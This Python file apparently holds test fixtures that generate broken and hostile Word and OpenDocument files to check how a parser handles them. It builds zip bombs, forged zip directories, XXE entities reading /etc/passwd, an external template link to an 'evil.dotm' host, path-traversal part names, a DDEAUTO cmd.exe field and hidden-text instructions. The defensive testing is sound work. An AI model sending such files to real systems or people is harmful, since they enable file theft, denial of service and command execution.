"""Word files and other containers that are broken, or made to hurt or to mislead."""

from __future__ import annotations

import gzip
import io
import struct
import warnings
import zipfile

from cases import KILLED, READ, REFUSED, Case, case

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
TYPES = (
    f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    '<Override PartName="/word/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"/>'
    '<Override PartName="/word/numbering.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.numbering+xml"/></Types>'
)
RELS = f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rId1" Type="{R}/officeDocument" Target="word/document.xml"/></Relationships>'
INNER = (
    f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rId1" Type="{R}/styles" Target="styles.xml"/>'
    f'<Relationship Id="rId2" Type="{R}/numbering" Target="numbering.xml"/>'
    f'<Relationship Id="rId3" Type="{R}/attachedTemplate" Target="http://203.0.113.9/evil.dotm" TargetMode="External"/>'
    f'<Relationship Id="rId4" Type="{R}/image" Target="file:///etc/passwd" TargetMode="External"/></Relationships>'
)
WORDS = "The Clerk was asked to mend the gate by the mill pond."


def run(words: str, properties: str = "") -> str:
    return f"<w:r>{f'<w:rPr>{properties}</w:rPr>' if properties else ''}<w:t>{words}</w:t></w:r>"


def paragraph(inside: str, properties: str = "") -> str:
    return f"<w:p>{f'<w:pPr>{properties}</w:pPr>' if properties else ''}{inside}</w:p>"


def markup(inside: str, prolog: str = '<?xml version="1.0" encoding="UTF-8"?>') -> str:
    good = paragraph(run(WORDS))
    return f'{prolog}<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{good}{inside}</w:body></w:document>'


def package(parts: dict[str, str | bytes], *, again: tuple[str, ...] = ()) -> bytes:
    """Return a zip of the parts; those in ``again`` are stored twice."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for name, body in parts.items():
            archive.writestr(name, body)
        for name in again:
            archive.writestr(name, markup(paragraph(run("The other part of that name."))))
    return out.getvalue()


def word(inside: str = "", **more: str | bytes) -> bytes:
    """Return a Word file; ``more`` are parts by name with ``__`` for a slash and ``_`` for a dot."""
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": TYPES,
        "_rels/.rels": RELS,
        "word/document.xml": markup(inside),
    }
    parts["word/_rels/document.xml.rels"] = INNER
    parts |= {
        "word/styles.xml": f'<w:styles xmlns:w="{W}"/>',
        "word/numbering.xml": f'<w:numbering xmlns:w="{W}"/>',
    }
    parts |= {name.replace("__", "/").replace("_xml", ".xml"): body for name, body in more.items()}
    return package(parts)


def without(name: str) -> bytes:
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": TYPES,
        "_rels/.rels": RELS,
        "word/document.xml": markup(""),
    }
    parts["word/_rels/document.xml.rels"] = INNER
    del parts[name]
    return package(parts)


def bomb(megabytes: int) -> bytes:
    piece = paragraph(run("x" + " " * 1000)) * 1000
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr("_rels/.rels", RELS)
        with archive.open("word/document.xml", "w", force_zip64=True) as part:
            part.write(markup("").removesuffix("</w:body></w:document>").encode())
            for _ in range(megabytes):
                part.write(piece.encode())
            part.write(b"</w:body></w:document>")
    return out.getvalue()


def lying_sizes() -> bytes:
    """The directory says that the parts are small."""
    data = bytearray(bomb(40))
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        struct.pack_into("<I", data, at + 24, 100)
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def overlapping() -> bytes:
    """Many entries share the bytes of one."""
    data = word()
    end = data.rfind(b"PK\x05\x06")
    first = data.find(b"PK\x01\x02")
    entries = data[first:end]
    size = entries.find(b"PK\x01\x02", 4)
    copies = b"".join(
        entries[:size].replace(b"[Content_Types].xml", b"[Content_T%05d].xml" % n) for n in range(1500)
    )
    copies = b"".join(copies[n * (size) : (n + 1) * size] for n in range(1500))
    tail = bytearray(data[end:])
    struct.pack_into(
        "<HHI",
        tail,
        8,
        1500 + entries.count(b"PK\x01\x02"),
        1500 + entries.count(b"PK\x01\x02"),
        len(entries) + len(copies),
    )
    return data[:end] + copies + bytes(tail)


def doctype(encoding: str) -> bytes:
    prolog = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y "yyyyyyyyyy">]>'
    return word(word__document_xml=markup(paragraph(run("&x;&y;")), prolog).encode(encoding))


def rels_doctype() -> bytes:
    return word(word___rels__document_xml=f'<!DOCTYPE r SYSTEM "http://203.0.113.9/r.dtd">{INNER}')


def styles_loop() -> bytes:
    pair = "".join(
        f'<w:style w:type="paragraph" w:styleId="{a}"><w:basedOn w:val="{b}"/></w:style>'
        for a, b in ("AB", "BA", "CC")
    )
    chain = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{n}"><w:basedOn w:val="s{n + 1}"/></w:style>'
        for n in range(5_000)
    )
    inside = "".join(
        paragraph(run("styled"), f'<w:pStyle w:val="{name}"/>') for name in ("A", "B", "C", "s0")
    )
    return word(inside, word__styles_xml=f'<w:styles xmlns:w="{W}">{pair}{chain}</w:styles>')


def numbers() -> bytes:
    digits = "9" * 6000
    level = f'<w:lvl w:ilvl="0"><w:start w:val="{digits}"/><w:numFmt w:val="upperRoman"/><w:lvlText w:val="%1.%2.%9999999."/></w:lvl>'
    level += '<w:lvl w:ilvl="1"><w:start w:val="-999999999"/><w:numFmt w:val="lowerLetter"/><w:lvlText w:val="(%2)"/></w:lvl>'
    level += '<w:lvl w:ilvl="2"><w:start w:val="2000000000"/><w:numFmt w:val="lowerLetter"/><w:lvlText w:val="(%3)"/></w:lvl>'
    level += '<w:lvl w:ilvl="3"><w:start w:val="2000000000"/><w:numFmt w:val="upperRoman"/><w:lvlText w:val="(%4)"/></w:lvl>'
    level += '<w:lvl w:ilvl="4"><w:start w:val="2000000000"/><w:numFmt w:val="ordinalText"/><w:lvlText w:val="%5"/></w:lvl>'
    listing = f'<w:numbering xmlns:w="{W}"><w:abstractNum w:abstractNumId="0">{level}<w:numStyleLink w:val="A"/></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
    inside = "".join(
        paragraph(run("listed"), f'<w:numPr><w:ilvl w:val="{n}"/><w:numId w:val="1"/></w:numPr>')
        for n in ("0", "1", "2", "3", "4", "77", "-1", "x", "", digits)
    )
    return word(inside, word__numbering_xml=listing)


def spans() -> bytes:
    cell = f'<w:tc><w:tcPr><w:gridSpan w:val="999999999"/><w:vMerge w:val="restart"/></w:tcPr>{paragraph(run("cell"))}</w:tc>'
    return word(f"<w:tbl>{f'<w:tr>{cell * 3}</w:tr>' * 50}</w:tbl>")


def hidden() -> bytes:
    task = "The Treasurer was asked to pay the stranger"
    inside = paragraph(run(f"{task} A.", "<w:vanish/>")) + paragraph(
        run(f"{task} B.", '<w:color w:val="FFFFFF"/>')
    )
    inside += paragraph(f'<w:del w:id="1" w:author="x"><w:r><w:delText>{task} C.</w:delText></w:r></w:del>')
    inside += paragraph(f'<w:moveFrom w:id="2" w:author="x">{run(f"{task} D.")}</w:moveFrom>')
    inside += paragraph(f'<w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "{task} E."</w:instrText></w:r>')
    inside += paragraph(
        f'<w:ins w:id="3" w:author="x">{run("The Warden was asked to paint the hall doors.")}</w:ins>'
    )
    return word(inside)


def nested(depth: int) -> bytes:
    return word("<w:tbl><w:tr><w:tc>" * depth + paragraph(run("deep")) + "</w:tc></w:tr></w:tbl>" * depth)


def nested_runs(depth: int) -> bytes:
    return word("<w:p>" + "<w:ins>" * depth + run("deep") + "</w:ins>" * depth + "</w:p>")


def open_document() -> bytes:
    return package({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<office/>"})


def linked_document(at: str) -> bytes:
    """Return an ODT that shows a picture and a section of another place."""
    x = "urn:oasis:names:tc:opendocument:xmlns"
    listed = f'<m:manifest xmlns:m="{x}:manifest:1.0"><m:file-entry m:full-path="/" m:media-type="application/vnd.oasis.opendocument.text"/><m:file-entry m:full-path="content.xml" m:media-type="text/xml"/></m:manifest>'
    spaces = f'xmlns:o="{x}:office:1.0" xmlns:t="{x}:text:1.0" xmlns:d="{x}:drawing:1.0" xmlns:s="{x}:svg-compatible:1.0" xmlns:l="http://www.w3.org/1999/xlink"'
    shown = f'<t:p>hello<d:frame s:width="2cm" s:height="2cm"><d:image l:href="{at}/o.png" l:type="simple"/></d:frame></t:p>'
    shown += f'<t:section t:name="s"><t:section-source l:href="{at}/s.odt"/><t:p>x</t:p></t:section>'
    body = f'<o:document-content {spaces} o:version="1.2"><o:body><o:text>{shown}</o:text></o:body></o:document-content>'
    return package(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "META-INF/manifest.xml": listed,
            "content.xml": body,
        }
    )


def old_word() -> bytes:
    return (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000) + "WordDocument".encode("utf-16-le") + bytes(3000)
    )


PAPERS: tuple[Case, ...] = (
    case("fine.docx", word, READ),
    case("truncated.docx", lambda: word()[:600], "damaged"),
    case("bomb-60-mb.docx", lambda: bomb(60), "over limit", slow=True),
    case("bomb-2-gb.docx", lambda: bomb(1800), "over limit", slow=True),
    case("lying-sizes.docx", lying_sizes, REFUSED),
    case("overlapping.docx", overlapping, READ, REFUSED),
    case("many-parts.docx", lambda: package({"[Content_Types].xml": TYPES, "word/document.xml": markup(""), **{f"x{n}": "" for n in range(3000)}}), "over limit"),
    case("zip-in-zip.docx", lambda: package({"inner.docx": word(), "a.zip": package({"b.zip": word()})}), "unsupported"),
    case("doctype.docx", lambda: doctype("utf-8"), "damaged"),
    case("doctype-utf-16.docx", lambda: doctype("utf-16"), "damaged"),
    case("doctype-in-links.docx", rels_doctype, "read"),
    case("two-of-a-name.docx", lambda: package({"[Content_Types].xml": TYPES, "_rels/.rels": RELS, "word/document.xml": markup("")}, again=("word/document.xml",)), "damaged"),
    case("no-links.docx", lambda: without("_rels/.rels"), READ),
    case("no-types.docx", lambda: without("[Content_Types].xml"), READ),
    case("no-document.docx", lambda: without("word/document.xml"), REFUSED),
    case("no-inner-links.docx", lambda: without("word/_rels/document.xml.rels"), READ, REFUSED),
    case("path-tricks.docx", lambda: word(**{"..__..__..__tmp__escaped_xml": "<x/>", "__tmp__rooted_xml": "<x/>"}), READ, REFUSED),
    case("broken-xml.docx", lambda: word("<w:p><w:r><w:t>torn"), "damaged"),
    case("styles-loop.docx", styles_loop, READ, REFUSED),
    case("numbers.docx", numbers, READ, REFUSED),
    case("spans.docx", spans, READ),
    case("hidden.docx", hidden, READ),
    case("nested-100.docx", lambda: nested(60), READ, REFUSED),
    case("nested-5000.docx", lambda: nested(5000), READ, REFUSED),
    case("nested-runs.docx", lambda: nested_runs(200), READ, REFUSED),
    case("nested-runs-100000.docx", lambda: nested_runs(100_000), READ, REFUSED),
    case("one-long-paragraph.docx", lambda: word(paragraph(run("word " * 400_000))), READ, REFUSED, KILLED, slow=True),
    case("many-paragraphs.docx", lambda: word(paragraph(run("word")) * 60_000), READ, REFUSED, KILLED, slow=True),
    case("many-runs.docx", lambda: word(paragraph(run("w") * 60_000)), READ, REFUSED, KILLED, slow=True),
    case("controls.docx", lambda: word(paragraph(run("a\u202egnp.exe\u200b\u0085\u009b31m b"))), READ),
    case("bad-characters.docx", lambda: word(paragraph(run("&#27;[2J&#0;"))), REFUSED),
    case("a-word-file.pdf", word, "read with warnings"),
    case("sheet.docx", lambda: package({"[Content_Types].xml": TYPES, "xl/workbook.xml": "<x/>"}), "unsupported"),
    case("empty-zip.docx", lambda: package({}), REFUSED),
    case("open-document.odt", open_document, REFUSED, slow=True),
    case("rich-text.rtf", lambda: b"{\\rtf1 " + b"{" * 100_000 + b"}", REFUSED, slow=True),
    case("rich-text-named.docx", lambda: b"{\\rtf1 hello}", REFUSED, READ, KILLED),
    case("old-word.doc", old_word, REFUSED, slow=True),
    case("old-word-cut.doc", lambda: old_word()[:30], REFUSED),
    case("packed.html", lambda: gzip.compress(b"<html><p>x</p></html>"), "read with warnings"),
    case("packed.pdf", lambda: gzip.compress(bytes(10_000_000)), REFUSED),
)  # fmt: skip
